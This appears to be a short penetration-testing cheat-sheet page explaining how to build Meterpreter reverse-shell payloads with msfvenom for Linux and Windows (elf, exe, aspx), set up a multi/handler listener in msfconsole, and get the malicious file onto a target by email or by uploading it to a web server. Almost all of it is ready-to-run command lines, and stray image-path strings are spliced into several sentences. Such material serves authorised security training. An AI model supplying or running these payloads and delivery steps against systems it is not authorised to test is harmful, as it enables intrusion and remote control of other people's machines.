Reverse Shell with Metasploit

Last modified: 2024-01-26

Privilege Escalation Reverse Shell

We can create a reverse shell payload using Msfvenom and listen for reverse connection with Msfconsole.

Generate Reverse Shell Payload

1. Create a Payload using MsfVenom

# Linux
msfvenom -p linux/x86/meterpreter/reverse_tcp LHOST= LPORT=4444 -f elf -o shell.elf

# Windows
msfvenom -p windows/meterpreter/reverse_tcp LHOST= LPORT=4444 -f exe -o shell.exe
msfvenom -p windows/meterpreter/reverse_tcp LHOST= LPORT=4444 -f aspx -o shell.aspx

2. Start Listener using MsfConsole

msf> use exploit/multi/handler

# Linux
msf> set payload linux/x86/meterpreter/reverse_tcp
# Windowsmsf> set payload windows/meterpreter/reverse_tcp
# or
msf> set payload windows/x64/meterpreter/reverse_tcp

msf> set lhost
msf> set lport 4444
msf> run
meterpreter> shell

3. Send the Generated File to Target Machine

After that, we need to send the generatedmalicious file to targetmachine somehow such as below:

  • Send email with this file.
  • Upload this file to target web server.

Then a user intarget machine executes thisfile, we may be ableto get a shell of target system.